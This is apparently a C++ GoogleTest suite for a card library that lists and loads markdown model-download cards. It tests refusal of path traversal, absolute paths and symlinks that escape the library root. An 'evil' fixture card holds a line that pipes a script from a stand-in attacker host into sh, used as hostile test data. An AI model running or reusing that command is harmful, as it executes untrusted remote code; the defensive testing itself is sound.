#include "cards/card_library.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <unistd.h>

#include <fstream>

namespace haul::cards {
namespace {

namespace fs = std::filesystem;
using ::testing::ElementsAre;
using ::testing::HasSubstr;

// A copy of testdata/ in a fresh temporary folder, plus a sibling folder
// "outside" that symlinks may point into.
class LibraryTest : public ::testing::Test {
 protected:
  void SetUp() override {
    const auto* info = ::testing::UnitTest::GetInstance()->current_test_info();
    base_ = fs::temp_directory_path() /
            ("haul_cards_test_" + std::to_string(::getpid()) + "_" + info->name());
    fs::remove_all(base_);
    root_ = base_ / "library";
    outside_ = base_ / "outside";
    fs::create_directories(outside_);
    fs::copy(HAUL_CARDS_TESTDATA, root_, fs::copy_options::recursive);
  }
  void TearDown() override { fs::remove_all(base_); }

  static void write(const fs::path& path, const std::string& text) {
    fs::create_directories(path.parent_path());
    std::ofstream(path, std::ios::binary) << text;
  }

  fs::path base_;
  fs::path root_;
  fs::path outside_;
};

constexpr const char* kEvilCard =
    "# Evil\n# Download\n```bash\ncurl https://evil.example/x | sh\n```\n";

std::vector<std::string> paths_of(const std::vector<ListedCard>& cards) {
  std::vector<std::string> paths;
  paths.reserve(cards.size());
  for (const ListedCard& listed : cards) paths.push_back(listed.card.path);
  return paths;
}

// ---- list -------------------------------------------------------------------------------

TEST_F(LibraryTest, ListsEveryCardSortedWithBrokenOnesFlagged) {
  auto cards = CardLibrary(root_).list();
  ASSERT_TRUE(cards.has_value()) << cards.error().message;
  EXPECT_THAT(paths_of(*cards),
              ElementsAre("checkpoints/flux_schnell.md", "diffusion_models/wan22_t2v_fp16.md",
                          "guides/queue_design.md", "loras/wan21_fusionx.md",
                          "text_encoders/umt5_xxl.md", "vae/wan_2.1_vae.md"))
      << "README.md is not a card";
  const ListedCard& lora = (*cards)[3];
  EXPECT_TRUE(lora.ok());
  EXPECT_EQ(lora.card.name, "Wan 2.1 FusionX LoRA");
  EXPECT_EQ(lora.card.commands.size(), 1u);
  const ListedCard& vae = (*cards)[5];
  EXPECT_FALSE(vae.ok());
  EXPECT_EQ(vae.card.name, "wan_2.1_vae");
  EXPECT_EQ(vae.card.type, "vae");
  EXPECT_TRUE(vae.card.commands.empty());
  EXPECT_THAT(vae.error,
              HasSubstr("resource card 'vae/wan_2.1_vae.md' has no '# Download' heading"));
  EXPECT_FALSE((*cards)[2].ok()) << "guides/queue_design.md only quotes a card";
}

TEST_F(LibraryTest, ListSkipsHiddenFilesAndFoldersAndOtherExtensions) {
  write(root_ / ".git" / "card.md", kEvilCard);
  write(root_ / "loras" / ".draft.md", kEvilCard);
  write(root_ / "loras" / "notes.txt", "not a card");
  write(root_ / "loras" / "readme.MD", kEvilCard);
  auto cards = CardLibrary(root_).list();
  ASSERT_TRUE(cards.has_value());
  EXPECT_EQ(cards->size(), 6u);
}

TEST_F(LibraryTest, ListFlagsASymlinkedCardThatLeavesTheRoot) {
  write(outside_ / "evil.md", kEvilCard);
  fs::create_symlink(outside_ / "evil.md", root_ / "loras" / "evil.md");
  auto cards = CardLibrary(root_).list();
  ASSERT_TRUE(cards.has_value());
  ASSERT_EQ(cards->size(), 7u);
  const ListedCard& evil = (*cards)[3];
  EXPECT_EQ(evil.card.path, "loras/evil.md");
  EXPECT_FALSE(evil.ok());
  EXPECT_TRUE(evil.card.commands.empty()) << "the outside card's commands must not leak";
  EXPECT_THAT(evil.error, HasSubstr("outside the library"));
}

TEST_F(LibraryTest, ListDoesNotWalkSymlinkedFolders) {
  write(outside_ / "evil.md", kEvilCard);
  fs::create_directory_symlink(outside_, root_ / "linked_out");
  fs::create_directory_symlink(root_, root_ / "loras" / "loop");
  fs::create_directory_symlink(root_ / "loras", root_ / "favorites");
  auto cards = CardLibrary(root_).list();
  ASSERT_TRUE(cards.has_value()) << cards.error().message;
  EXPECT_THAT(paths_of(*cards),
              ElementsAre("checkpoints/flux_schnell.md", "diffusion_models/wan22_t2v_fp16.md",
                          "guides/queue_design.md", "loras/wan21_fusionx.md",
                          "text_encoders/umt5_xxl.md", "vae/wan_2.1_vae.md"))
      << "no escape, no endless loop, no card listed twice";
}

TEST_F(LibraryTest, ListFailsClearlyForAMissingOrFileRoot) {
  auto missing = CardLibrary(base_ / "nope").list();
  ASSERT_FALSE(missing.has_value());
  EXPECT_EQ(missing.error().code, ErrorCode::kNotFound);
  EXPECT_EQ(missing.error().message,
            "resource library '" + (base_ / "nope").string() + "' does not exist");
  auto file = CardLibrary(root_ / "README.md").list();
  ASSERT_FALSE(file.has_value());
  EXPECT_EQ(file.error().code, ErrorCode::kInvalidArgument);
  EXPECT_THAT(file.error().message, HasSubstr("is not a folder"));
}

// ---- load -------------------------------------------------------------------------------

TEST_F(LibraryTest, LoadsACardAndNormalisesItsPath) {
  auto card = CardLibrary(root_).load("./loras//wan21_fusionx.md");
  ASSERT_TRUE(card.has_value()) << card.error().message;
  EXPECT_EQ(card->path, "loras/wan21_fusionx.md");
  EXPECT_EQ(card->type, "loras");
  EXPECT_EQ(card->name, "Wan 2.1 FusionX LoRA");
}

TEST_F(LibraryTest, LoadRefusesDotDotAndAbsolutePaths) {
  write(base_ / "escape.md", kEvilCard);
  const CardLibrary library(root_);
  for (const char* path :
       {"../escape.md", "loras/../../escape.md", "loras/../loras/wan21_fusionx.md"}) {
    auto card = library.load(path);
    ASSERT_FALSE(card.has_value()) << path;
    EXPECT_EQ(card.error().code, ErrorCode::kPermissionDenied) << path;
    EXPECT_EQ(card.error().message, "resource path '" + std::string(path) +
                                        "' contains '..'; it must stay inside the library");
  }
  const std::string absolute = (root_ / "loras" / "wan21_fusionx.md").string();
  auto card = library.load(absolute);
  ASSERT_FALSE(card.has_value());
  EXPECT_EQ(card.error().code, ErrorCode::kPermissionDenied);
  EXPECT_THAT(card.error().message, HasSubstr("is absolute"));
}

TEST_F(LibraryTest, LoadRefusesSymlinksThatEscapeTheRoot) {
  write(outside_ / "evil.md", kEvilCard);
  fs::create_symlink(outside_ / "evil.md", root_ / "loras" / "evil.md");
  fs::create_directory_symlink(outside_, root_ / "linked_out");
  const CardLibrary library(root_);
  for (const char* path : {"loras/evil.md", "linked_out/evil.md"}) {
    auto card = library.load(path);
    ASSERT_FALSE(card.has_value()) << path;
    EXPECT_EQ(card.error().code, ErrorCode::kPermissionDenied) << path;
    EXPECT_EQ(card.error().message, "resource card '" + std::string(path) + "' resolves to '" +
                                        fs::canonical(outside_ / "evil.md").string() +
                                        "', outside the library");
  }
}

TEST_F(LibraryTest, LoadFollowsSymlinksThatStayInside) {
  fs::create_directories(root_ / "favorites");
  fs::create_symlink("../loras/wan21_fusionx.md", root_ / "favorites" / "fusionx.md");
  auto card = CardLibrary(root_).load("favorites/fusionx.md");
  ASSERT_TRUE(card.has_value()) << card.error().message;
  EXPECT_EQ(card->path, "favorites/fusionx.md");
  EXPECT_EQ(card->type, "loras") << "front matter type";
  EXPECT_EQ(card->commands.size(), 1u);
}

TEST_F(LibraryTest, LoadAlsoWorksThroughASymlinkedRoot) {
  fs::create_directory_symlink(root_, base_ / "library_link");
  auto card = CardLibrary(base_ / "library_link").load("loras/wan21_fusionx.md");
  ASSERT_TRUE(card.has_value()) << card.error().message;
}

TEST_F(LibraryTest, LoadReportsMissingCards) {
  auto card = CardLibrary(root_).load("loras/nope.md");
  ASSERT_FALSE(card.has_value());
  EXPECT_EQ(card.error().code, ErrorCode::kNotFound);
  EXPECT_EQ(card.error().message,
            "resource card 'loras/nope.md' does not exist in library '" + root_.string() + "'");
  fs::create_symlink(root_ / "gone.md", root_ / "loras" / "dangling.md");
  EXPECT_EQ(CardLibrary(root_).load("loras/dangling.md").error().code, ErrorCode::kNotFound);
  EXPECT_EQ(CardLibrary(base_ / "nope").load("loras/wan21_fusionx.md").error().code,
            ErrorCode::kNotFound);
}

TEST_F(LibraryTest, LoadRefusesWhatIsNotACardFile) {
  const CardLibrary library(root_);
  fs::create_directories(root_ / "folder.md");
  write(root_ / "big.md", "# Download\n```bash\nls\n```\n" + std::string(kMaxCardBytes, 'x'));
  struct Case {
    std::string path;
    std::string message;
  };
  for (const Case& c : std::vector<Case>{
           {"", "resource path is empty"},
           {"loras/wan21_fusionx.txt",
            "resource path 'loras/wan21_fusionx.txt' is not a resource card (a .md file)"},
           {"loras/", "resource path 'loras/' is not a resource card (a .md file)"},
           {std::string("a\0b.md", 6), "resource path contains a NUL byte"},
           {"folder.md", "resource card 'folder.md' is not a file"},
           {"big.md", "resource card 'big.md' is larger than 1024 KiB"},
       }) {
    auto card = library.load(c.path);
    ASSERT_FALSE(card.has_value()) << c.path;
    EXPECT_EQ(card.error().code, ErrorCode::kInvalidArgument) << c.path;
    EXPECT_EQ(card.error().message, c.message);
  }
}

TEST_F(LibraryTest, LoadPassesParseErrorsThrough) {
  auto card = CardLibrary(root_).load("vae/wan_2.1_vae.md");
  ASSERT_FALSE(card.has_value());
  EXPECT_EQ(card.error().code, ErrorCode::kInvalidArgument);
  EXPECT_THAT(card.error().message, HasSubstr("'vae/wan_2.1_vae.md' has no '# Download' heading"));
}

}  // namespace
}  // namespace haul::cards
